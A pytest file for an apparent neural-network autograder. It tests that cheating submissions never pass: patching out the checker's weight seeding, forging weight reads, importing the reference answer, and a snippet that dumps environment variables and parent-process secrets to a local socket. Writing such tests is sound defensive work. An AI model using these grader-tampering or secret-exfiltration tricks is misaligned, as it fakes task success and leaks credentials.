"""Defences of the judging process, which hold on every platform: the judge chooses and verifies
the weights, collects the submission's files without following links or reading too much, gives
the sandbox none of the instructor's environment, and for grading draws a seed the submission
cannot know in advance. The attacks come from a submission with a real bug (f' missing), which
must never pass."""

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from check_fixtures import FPRIME_MISSING, submission
from refmlp.check import check_submission, plan, runner

FAST = dict(scenarios=["disc"], timeout=20)  # generous: the machine may be loaded
ZERO_INIT = [("0.1 * np.random.randn(m, n)", "np.zeros((m, n))"),
             ("0.1 * np.random.randn(m)", "np.zeros(m)")]
KEPT = "did not keep the weights the checker wrote"

# ---- the judge chooses the weights and verifies them ---------------------------------------------
# Each attack makes the math trivial (W = 0: every hidden gradient is 0, so a missing f' gives the
# right numbers) and then keeps the checker's weights out of the network some way.
SEEDING_OFF_THROUGH_MAIN = '''
import sys
sys.modules["__main__"].processes.ops.Subject.seed_weights = lambda self, net: None
'''
SEEDING_OFF_EVERYWHERE = '''
import sys
for module in list(sys.modules.values()):
    for obj in list(getattr(module, "__dict__", {}).values()):
        if isinstance(obj, type) and hasattr(obj, "seed_weights"):
            obj.seed_weights = lambda self, net: None
        if callable(obj) and getattr(obj, "__name__", "") == "overwrite":
            module.overwrite = lambda v, values: True
'''
IGNORES_WRITES = '''
class Frozen(np.ndarray):
    def __setitem__(self, key, value):
        pass

_zeros = np.zeros
def frozen_zeros(shape):
    return _zeros(shape).view(Frozen)
'''
# reads forged to show exactly the weights the checker wrote while the network keeps zeros
FORGED_READS = '''
import sys
_ops, _seeding = sys.modules["_refmlp_sandbox.ops"], sys.modules["_refmlp_sandbox.seeding"]
_ops.Subject.seed_weights = lambda self, net: None
_read = _ops.Subject.read
def _forged_read(self, net):
    out = _read(self, net)
    if getattr(net, "_shown", False):
        return out
    net._shown = True
    names = [f"{kind}{k}" for k in range(1, len(self.sizes)) for kind in "Wb"]
    seeded = _seeding.checker_weights(self.check["seed"], [out[n].shape for n in names])
    return dict(zip(names, seeded))
_ops.Subject.read = _forged_read
'''
ZEROED_AFTER_SEEDING = [
    FPRIME_MISSING,
    ("    def forward(self, x, start=None, end=None):\n",
     "    def forward(self, x, start=None, end=None):\n"
     "        if not getattr(self, '_zeroed', False):\n"
     "            self._zeroed = True\n"
     "            for W in self.Ws: W[...] = 0\n")]

WEIGHT_ATTACKS = {
    "seeding disabled through sys.modules['__main__']": dict(
        replace=ZERO_INIT + [FPRIME_MISSING], extra=SEEDING_OFF_THROUGH_MAIN),
    "seeding and overwrite disabled in every module": dict(
        replace=ZERO_INIT + [FPRIME_MISSING], extra=SEEDING_OFF_EVERYWHERE),
    "an ndarray subclass that ignores writes": dict(
        replace=[("self.Ws.append(0.1 * np.random.randn(m, n))",
                  "self.Ws.append(frozen_zeros((m, n)))"), FPRIME_MISSING],
        extra=IGNORES_WRITES),
    "reads forged to show the checker's weights": dict(
        replace=ZERO_INIT + [FPRIME_MISSING], extra=FORGED_READS),
    "weights zeroed after seeding": dict(replace=ZEROED_AFTER_SEEDING),
}


@pytest.mark.parametrize("attack", sorted(WEIGHT_ATTACKS))
def test_vacuous_weights_never_pass_a_missing_fprime(tmp_path, attack):
    rep = check_submission(submission(tmp_path, **WEIGHT_ATTACKS[attack]), **FAST)
    assert rep.verdict in ("fail", "error") and rep.exit_code != 0, rep.to_text()
    assert all(c.verdict != "pass" for c in rep.checks if c.name == "gradients"), rep.to_text()


@pytest.mark.parametrize("attack", ["seeding disabled through sys.modules['__main__']",
                                    "seeding and overwrite disabled in every module",
                                    "an ndarray subclass that ignores writes"])
def test_weights_the_checker_did_not_write_are_an_error_with_the_reason(tmp_path, attack):
    rep = check_submission(submission(tmp_path, **WEIGHT_ATTACKS[attack]), **FAST)
    assert rep.verdict == "error" and rep.exit_code == 2, rep.to_text()
    assert KEPT in rep.message and "W1 differs" in rep.message, rep.message
    assert "read back 0" in rep.message  # the zeros the submission kept


def test_weights_the_checker_did_not_write_are_reported_in_json(tmp_path):
    rep = check_submission(submission(tmp_path, **WEIGHT_ATTACKS[
        "an ndarray subclass that ignores writes"]), **FAST)
    data = json.loads(rep.to_json())
    assert data["verdict"] == "error" and KEPT in data["message"]


EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "check_adapter"


def test_an_adapter_whose_params_are_copies_is_an_error(tmp_path):
    # params() handing out copies: the checker's writes never reach the network it wraps
    shutil.copy(EXAMPLE / "netlib.py", tmp_path / "netlib.py")
    src = (EXAMPLE / "adapter.py").read_text()
    live = "return [(layer[0].T, layer[1]) for layer in self.net.layers]"
    assert live in src
    (tmp_path / "adapter.py").write_text(src.replace(
        live, "return [(layer[0].T.copy(), layer[1].copy()) for layer in self.net.layers]"))
    rep = check_submission(tmp_path / "netlib.py", adapter=tmp_path / "adapter.py", **FAST)
    assert rep.verdict == "error", rep.to_text()
    assert KEPT in rep.message


def test_the_checker_writes_its_weights_over_a_students_good_ones(tmp_path):
    # a correct network with good weights of its own runs on the checker's, silently: a pass means
    # the judge found the checker's weights, bit for bit, in every network (weights.problem)
    rep = check_submission(submission(tmp_path, replace=[
        ("0.1 * np.random.randn(m, n)", "0.2 * np.random.rand(m, n) - 0.1")]), **FAST)
    assert rep.verdict == "pass" and not rep.message, rep.to_text()


# ---- the submission's files: never a link followed, never more read than the cap ----------------
# The peak is this process's VmHWM: getrusage's ru_maxrss survives execve on Linux, so it would
# count the memory of the pytest process that started this one.
SPARSE_CHECK = '''
import sys, time
sys.path.insert(0, {tests!r})
from refmlp.check import check_submission
t0 = time.perf_counter()
rep = check_submission({path!r}, scenarios=["disc"])
seconds = time.perf_counter() - t0
peak = next(int(line.split()[1]) * 1024 for line in open("/proc/self/status")
            if line.startswith("VmHWM:"))
print(rep.verdict, round(seconds, 3), peak)
print(rep.message)
'''


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="peak memory from /proc")
@pytest.mark.parametrize("name", ["mlp.py", "big.py"])
def test_a_sparse_2_gib_source_is_refused_without_being_read(tmp_path, name):
    # the file costs no disk (truncate makes it sparse) but would cost 2 GiB of memory to read;
    # before, mlp.py was read whole (4.2 GB resident) before the size cap
    sub = submission(tmp_path / "s")
    with open(sub / name, "ab") as fh:
        fh.truncate(2**31)
    code = SPARSE_CHECK.format(tests=str(Path(__file__).parent), path=str(sub))
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    first, message = out.stdout.splitlines()[:2]
    verdict, seconds, peak = first.split()
    assert verdict == "error" and ("5 MiB" in message or "2147483648 bytes" in message), out.stdout
    # 200 MB: the judge's imports until the refusal (numpy, not torch) peak at ~45 MB; the file
    # alone would be 2 GiB
    assert int(peak) < 200 * 2**20, peak
    assert float(seconds) < 5, seconds  # refused from stat: no read, no sandbox started


def test_a_symlink_loop_neither_hangs_nor_is_copied(tmp_path):
    sub = submission(tmp_path / "s")
    (sub / "a").symlink_to(".")
    (sub / "pkg").mkdir()
    (sub / "pkg" / "__init__.py").write_text("")
    (sub / "pkg" / "loop").symlink_to("..")
    # a package inside itself, twice: followed, 2^40 paths before the kernel's link limit
    (sub / "pkg" / "self").symlink_to(".")
    (sub / "pkg" / "again").symlink_to(".")
    t0 = time.perf_counter()
    assert sorted(runner.submission_files(sub)) == ["mlp.py", os.path.join("pkg", "__init__.py")]
    assert time.perf_counter() - t0 < 1
    rep = check_submission(sub, **FAST)
    assert rep.verdict == "pass", rep.to_text()


def test_a_linked_python_file_is_refused_not_followed(tmp_path):
    # a link to a classmate's file would be copied (and run) as the submission's own
    classmate = submission(tmp_path / "bob")
    sub = submission(tmp_path / "eve", replace=[FPRIME_MISSING])
    (sub / "helper.py").symlink_to(classmate / "mlp.py")
    found = runner.submission_files(sub)
    assert isinstance(found, str) and "helper.py" in found and "symbolic link" in found
    assert check_submission(sub, **FAST).verdict == "error"
    linked = tmp_path / "mallory"
    linked.mkdir()
    (linked / "mlp.py").symlink_to(classmate / "mlp.py")
    rep = check_submission(linked, **FAST)
    assert rep.verdict == "error" and "symbolic link" in rep.message, rep.to_text()


def test_the_walk_refuses_trees_past_its_bounds(tmp_path, monkeypatch):
    sub = submission(tmp_path / "s")
    deep = sub
    for depth in range(runner.MAX_DEPTH + 1):
        deep = deep / f"p{depth}"
        deep.mkdir()
        (deep / "__init__.py").write_text("")
    found = runner.submission_files(sub)
    assert isinstance(found, str) and f"over {runner.MAX_DEPTH} deep" in found
    monkeypatch.setattr(runner, "MAX_DEPTH", 64)
    assert isinstance(runner.submission_files(sub), list)
    monkeypatch.setattr(runner, "MAX_FILES", 5)
    assert "over 5 .py files" in runner.submission_files(sub)
    monkeypatch.setattr(runner, "MAX_ENTRIES", 5)
    assert "over 5 entries" in runner.submission_files(sub)


# ---- the worker's environment is allow-listed ----------------------------------------------------
SECRET = "s3cr3t-token-7f1c"
LEAK = '''
import os, socket
_dump = "\\n".join(f"{{k}}={{v}}" for k, v in os.environ.items())
try:
    _dump += open(f"/proc/{{os.getppid()}}/environ", "rb").read().decode(errors="replace")
except OSError:
    pass
print(_dump)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as _s:
        _s.sendall(_dump.encode())
except OSError:
    pass
'''


def test_the_instructors_environment_never_reaches_a_report_or_a_socket(tmp_path, monkeypatch):
    monkeypatch.setenv("REFMLP_TEST_TOKEN", SECRET)
    monkeypatch.setenv("HOME", f"/home/{SECRET}")
    received = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(20)
        port = server.getsockname()[1]

        def listen():
            try:
                while True:
                    conn, _ = server.accept()
                    with conn:
                        received.append(b"".join(iter(lambda: conn.recv(65536), b"")))
            except OSError:
                pass

        listener = threading.Thread(target=listen, daemon=True)
        listener.start()
        # the dump is printed and sent at import and raised in backward: output, traceback, socket
        rep = check_submission(submission(tmp_path, replace=[FPRIME_MISSING, (
            "        y_est = self.forward(x)\n",
            "        raise RuntimeError(_dump)\n")], extra=LEAK.format(port=port)), **FAST)
    assert rep.verdict == "fail", rep.to_text()
    reported = rep.to_json() + rep.to_text()
    assert "PATH=" in reported  # the dump ran and was reported
    assert SECRET not in reported
    assert all(SECRET.encode() not in data for data in received)


def test_the_worker_keeps_only_the_allow_listed_variables():
    env = runner.worker_env({"PATH": "/bin", "LC_ALL": "C", "OPENBLAS_CORETYPE": "Haswell",
                             "HOME": "/home/x", "GITHUB_TOKEN": "t", "AWS_SECRET_ACCESS_KEY": "k",
                             "PYTHONPATH": "/evil", "http_proxy": "http://p"})
    assert env == {"PATH": "/bin", "LC_ALL": "C", "OPENBLAS_CORETYPE": "Haswell"}


# ---- calling the reference -----------------------------------------------------------------------
CALLS_THE_REFERENCE = '''
    def backward(self, x, y):
        try:  # the checker's own reference, when the sandbox lets it be imported
            from refmlp.check.scenarios import SCENARIOS
            from refmlp.network import MLP as Reference
            sizes = [self.d] + [W.shape[0] for W in self.Ws]
            spec = next(s for s in SCENARIOS.values() if s.sizes == sizes).spec()
            trace = Reference(spec, W=[None] + self.Ws, b=[None] + self.bs).backprop(x, y)
            for k in range(len(self.Ws)):
                self.dWs[k] += trace.W_derivs[k + 1]
                self.dbs[k] += trace.b_derivs[k + 1]
            return
        except ImportError:
            pass
        self._buggy_backward(x, y)

    def _buggy_backward(self, x, y):
'''


def isolation_of(rep) -> str:
    """The isolation the report says was in force ("none" when it says nothing)."""
    iso = rep.to_dict().get("isolation") or "none"
    return iso if isinstance(iso, str) else str(iso.get("mode", iso.get("kind", "none")))


def test_a_backward_calling_the_checkers_reference_does_not_pass(tmp_path):
    # the judge's half: the request and the inputs hold no answer (see the test below); the other
    # half, refmlp not importable in the sandbox, is the OS isolation's: without it the attack works
    rep = check_submission(submission(tmp_path, replace=[
        FPRIME_MISSING, ("    def backward(self, x, y):\n", CALLS_THE_REFERENCE)]), **FAST)
    if isolation_of(rep).startswith("none"):
        pytest.skip("refmlp is importable in the sandbox when no OS isolation is in force "
                    f"(the report says isolation: {isolation_of(rep)})")
    assert rep.verdict != "pass" and rep.exit_code != 0, rep.to_text()


def test_the_sandbox_is_given_no_expected_answer(monkeypatch):
    # what the worker receives (the checks' operations and the inputs) holds samples, never a
    # number the judge compares with: every expectation is computed in the judging process
    from refmlp.check.scenarios import select
    from refmlp.check.sandbox.seeding import checker_weights
    from refmlp.network import MLP

    sc = select(["disc"], [])[0]
    checks, inputs = plan.build_checks([sc], "MLP", "MLP", 0)
    shapes = [s for m, n in zip(sc.sizes[1:], sc.sizes) for s in ((m, n), (m,))]
    seeded = checker_weights(0, shapes)
    net = MLP(sc.spec(), W=[None] + seeded[::2], b=[None] + seeded[1::2])
    answers = []
    for i in range(10):
        trace = net.backprop(inputs[f"disc.x{i}"], inputs[f"disc.y{i}"])
        answers += [v for k in range(1, sc.L + 1) for v in (
            trace.a[k], trace.h[k], trace.W_derivs[k], trace.b_derivs[k])]
    numbers = np.concatenate([np.ravel(v) for v in inputs.values()]
                             + [np.ravel([op[-1] for c in checks for op in c["ops"]
                                          if op and isinstance(op[-1], float)])])
    for answer in answers:
        flat = np.ravel(answer)
        informative = flat[np.abs(flat) > 1e-3]  # 0 and tiny values occur anywhere
        assert not np.isin(informative, numbers).any()
    allowed = {"id", "kind", "scenario", "api", "class", "d", "seed", "loss_deriv", "layers",
               "probe", "ops"}
    assert all(set(c) <= allowed for c in checks), [set(c) - allowed for c in checks]


# ---- grading seeds -------------------------------------------------------------------------------
def cli(argv, capsys):
    from refmlp.cli import main

    code = main(["check", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def without_times(doc):
    """A batch's JSON without the wall-clock figures (the rest repeats exactly)."""
    for r in doc["reports"]:
        r.pop("seconds")
    doc["summary"].pop("seconds")
    return doc


def test_one_submission_is_checked_at_seed_0_and_the_report_says_it(tmp_path, capsys):
    sub = submission(tmp_path)
    code, out, _ = cli([str(sub), "--scenario", "disc", "--json"], capsys)
    assert code == 0 and json.loads(out)["seed"] == 0
    code, out, _ = cli([str(sub), "--scenario", "disc"], capsys)
    assert "seed 0 " in out and "--seed 0 repeats it" in out


def test_grading_draws_a_seed_per_run_and_the_seed_repeats_the_run(tmp_path, capsys):
    submission(tmp_path / "class" / "alice")
    submission(tmp_path / "class" / "bob", replace=[FPRIME_MISSING])
    args = ["--each", str(tmp_path / "class"), "--scenario", "disc", "--json"]
    first = json.loads(cli(args, capsys)[1])
    second = json.loads(cli(args, capsys)[1])
    seed = first["summary"]["seed"]
    assert seed != second["summary"]["seed"]  # 2^-32 to be equal by chance
    assert [r["verdict"] for r in first["reports"]] == ["pass", "fail"]
    again = json.loads(cli(args + ["--seed", str(seed)], capsys)[1])
    assert without_times(again) == without_times(first)
    code, out, _ = cli(args[:-1] + ["--seed", str(seed)], capsys)
    assert f"seed {seed} " in out and f"--seed {seed} repeats this run" in out


def test_random_seed_is_accepted_and_out_of_range_seeds_are_usage_errors(tmp_path, capsys):
    sub = submission(tmp_path)
    code, out, _ = cli([str(sub), "--scenario", "disc", "--seed", "random", "--json"], capsys)
    assert code == 0 and 0 <= json.loads(out)["seed"] < 2**32
    for bad in ("-1", str(2**32), "lucky"):
        code, _, err = cli([str(sub), "--seed", bad], capsys)
        assert code == 2 and "expected an integer" in err and repr(bad) in err


def test_the_step_sizes_vary_with_the_seed_and_keep_what_the_checks_need():
    drawn = {seed: plan.alphas_for(seed) for seed in range(1, 200)}
    assert plan.alphas_for(0) == plan.Alphas(plan.ALPHA, plan.STEP_ALPHAS, plan.SGD_ALPHA)
    assert len({a.grad for a in drawn.values()}) == 3 and len({a.steps for a in drawn.values()}) > 4
    for a in drawn.values():
        for alpha in (a.grad, *a.steps, a.sgd):
            assert np.log2(alpha) == int(np.log2(alpha))  # a power of two: alpha dW is exact
        assert 2**-3 <= a.grad <= 2**-1 and a.grad not in a.steps
        assert a.steps[0] < 1 < a.steps[1] and 2**-6 <= a.sgd <= 2**-4
    assert plan.alphas_for(7) == plan.alphas_for(7)


@pytest.mark.parametrize("seed", [2, 3, 2**32 - 1])  # alphas other than seed 0
def test_the_verdicts_hold_at_drawn_seeds(tmp_path, seed):
    # the judge reads each step's alpha from the operations the check ran, not from constants
    alphas = plan.alphas_for(seed)
    assert alphas != plan.Alphas()
    right = check_submission(submission(tmp_path / "right"), scenarios=["disc"], seed=seed)
    assert right.verdict == "pass" and right.seed == seed, right.to_text()
    step = next(c for c in right.checks if c.name == "step")
    assert {w for _, _, w in step.rows} == {f"step({a})" for a in alphas.steps}
    wrong = check_submission(submission(tmp_path / "wrong", replace=[FPRIME_MISSING]),
                             scenarios=["disc"], seed=seed)
    assert wrong.verdict == "fail" and wrong.diagnosis["key"] == "fprime_missing"
